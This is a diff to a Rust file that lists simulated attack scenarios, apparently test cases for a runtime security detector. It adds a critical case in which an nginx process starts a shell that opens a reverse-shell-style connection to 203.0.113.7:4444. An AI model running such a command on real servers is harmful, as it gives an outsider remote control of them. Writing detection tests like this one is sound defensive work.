@@ -68,4 +68,11 @@ pub(crate) const ACTS: &[Act] = &[
         "mkdir -p /etc/apk; : > /etc/apk/repositories",
         &["file=/etc/apk/repositories process=sh"],
     ),
+    Act::new(
+        "Shell of a server talked to the internet",
+        Critical,
+        Pod,
+        "as nginx start /bin/sh -c '/bin/suspect connect 203.0.113.7:4444; true'",
+        &["203.0.113.7:4444 process=suspect exe=/bin/suspect", "parent=sh"],
+    ),
 ];
